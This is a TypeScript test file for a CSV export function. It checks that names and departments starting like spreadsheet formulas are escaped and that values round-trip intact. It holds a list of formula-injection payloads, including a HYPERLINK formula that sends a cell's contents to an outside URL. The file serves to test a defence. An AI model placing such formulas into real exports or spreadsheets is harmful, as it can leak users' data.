import { text } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { csvChunks } from './csv-chunks.js';
import type { ExportRow } from './export-rows.js';

const COLUMNS = ['employee_id', 'last_name', 'department_description'];

async function csvOf(...batches: ExportRow[][]): Promise<string[][]> {
  const rows = (async function* () {
    yield* batches;
  })();
  return parse(await text(csvChunks(COLUMNS, rows)));
}

it('escapes names and departments that a spreadsheet would run as a formula, and drops no character', async () => {
  const hostile = [
    '=HYPERLINK("http://example.com/?"&A1,"pay")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    '=1","=2\n=3',
    '+19185550123',
  ];
  const rows = hostile.map((name, at) => ({
    employee_id: String(at),
    last_name: name,
    department_description: name,
  }));
  const [, ...read] = await csvOf(rows);
  expect(read).toEqual(hostile.map((name, at) => [String(at), `'${name}`, `'${name}`]));
});

it('for any text, no cell begins like a formula and the text can be read back', async () => {
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n＝",;\' aé') }), { minLength: 1 }),
      async (names) => {
        const rows = names.map((last_name) => ({ employee_id: 'x', last_name }));
        const [, ...read] = await csvOf(rows);
        const cells = read.map(([, cell = '']) => cell);
        for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
        expect(cells).toHaveLength(names.length);
        names.forEach((name, at) => {
          expect([name, `'${name}`]).toContain(cells[at]);
        });
      },
    ),
  );
});

it('keeps leading zeros, and writes dates, nested values and null as text', async () => {
  const row = { employee_id: '000012', last_name: null, department_description: { row: 1 } };
  const other = { employee_id: '7', last_name: true, department_description: new Date(0) };
  expect(await csvOf([row], [other])).toEqual([
    COLUMNS,
    ['000012', '', '{"row":1}'],
    ['7', 'true', '1970-01-01T00:00:00.000Z'],
  ]);
});

it('an empty export has only the heading, and a failure before the first row writes nothing', async () => {
  expect(await csvOf()).toEqual([COLUMNS]);
  const failing = (async function* (): AsyncGenerator<ExportRow[]> {
    await Promise.reject(new Error('away'));
    yield [];
  })();
  await expect(csvChunks(COLUMNS, failing).next()).rejects.toThrow('away');
});
